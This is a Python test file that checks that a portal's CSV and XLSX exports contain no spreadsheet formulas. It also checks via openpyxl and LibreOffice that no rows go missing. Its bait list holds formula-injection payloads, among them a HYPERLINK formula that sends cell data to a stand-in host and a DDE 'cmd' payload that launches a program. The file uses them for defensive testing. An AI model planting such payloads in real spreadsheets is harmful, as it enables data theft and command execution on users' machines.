"""What is exported opens in a spreadsheet as it was: no cell is a formula, and no row is missing. Source: reliability P28.

LibreOffice is asked where it is installed (`soffice`); openpyxl, which reads formulas as such, always is.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook, load_workbook

from tests.portal import sample
from tests.portal.sample import Signed

ROWS = 150
# What a spreadsheet takes for a formula, bare or behind what may be trimmed off, and what only looks like one.
BAIT = (
    "=1+1",
    '=HYPERLINK("http://203.0.113.9/?x="&A2,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "=cmd|' /C calc'!A0",
    "'=1+1",
    '"=1+1"',
    "{=1+1}",
    "of:=1+1",
    "1e5",
    "plain",
)
OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
needs_office = pytest.mark.skipif(
    OFFICE is None, reason="LibreOffice is not installed: there is no soffice to open files with."
)


@pytest.fixture
def exported(signed: Signed, tmp_path: Path) -> dict[str, Path]:
    """The same list as files of both formats."""
    names = [BAIT[n % len(BAIT)] for n in range(ROWS)]
    sample.fill(signed.organisation, [{"company": name, "count": n - 40} for n, name in enumerate(names)])
    found = {}
    for kind in ("csv", "xlsx"):
        answer = signed.client.get(signed.url(f"sample/export/?all=1&format={kind}"))
        found[kind] = tmp_path / f"table-data.{kind}"
        found[kind].write_bytes(b"".join(answer.streaming_content))  # type: ignore[attr-defined]
    return found


def test_a_workbook_has_every_row_and_no_formula(exported: dict[str, Path]) -> None:
    # without data_only: a formula would be read as one
    rows = list(load_workbook(exported["xlsx"]).active.iter_rows())
    assert len(rows) == 1 + ROWS
    assert {cell.data_type for row in rows for cell in row} <= {"s", "n", "d", "inlineStr"}
    texts = sorted(str(row[0].value) for row in rows[1:])
    assert texts == sorted(BAIT[n % len(BAIT)] for n in range(ROWS)), "and the texts are whole"
    with zipfile.ZipFile(exported["xlsx"]) as pack:
        assert not [name for name in pack.namelist() if "externalLink" in name or "vba" in name.lower()]


def test_a_csv_has_every_row_and_no_cell_that_begins_a_formula(exported: dict[str, Path]) -> None:
    rows = list(csv.reader(io.StringIO(exported["csv"].read_text("utf-8-sig"), newline="")))
    assert len(rows) == 1 + ROWS
    texts = [row[0] for row in rows[1:]]
    assert not [text for text in texts if text.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]


@needs_office
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_libreoffice_finds_every_row_and_no_formula(exported: dict[str, Path], tmp_path: Path, kind: str) -> None:
    rows, formulas = opened(exported[kind], tmp_path)
    assert formulas == []
    assert rows == 1 + ROWS


@needs_office
def test_libreoffice_would_have_told(tmp_path: Path) -> None:
    """The planted breach: a workbook with a formula in it."""
    bare = Workbook()
    bare.active.append(["Text"])
    bare.active.append(["=1+1"])
    bare.save(tmp_path / "bare.xlsx")
    assert opened(tmp_path / "bare.xlsx", tmp_path) == (2, ["of:=1+1"])


def opened(file: Path, folder: Path) -> tuple[int, list[str]]:
    """The rows and the formulas of a file, as LibreOffice opens and writes it again."""
    assert OFFICE is not None
    command = [OFFICE, f"-env:UserInstallation={(folder / 'office').as_uri()}", "--headless", "--convert-to", "fods"]
    subprocess.run([*command, "--outdir", str(folder), str(file)], check=True, timeout=120, capture_output=True)
    tree = ElementTree.parse(folder / f"{file.stem}.fods")
    rows = [row for row in tree.iter(f"{TABLE}table-row") if next(row.itertext(), None) is not None]
    formulas = [cell.attrib[f"{TABLE}formula"] for cell in tree.iter(f"{TABLE}table-cell") if f"{TABLE}formula" in cell.attrib]
    return len(rows), formulas
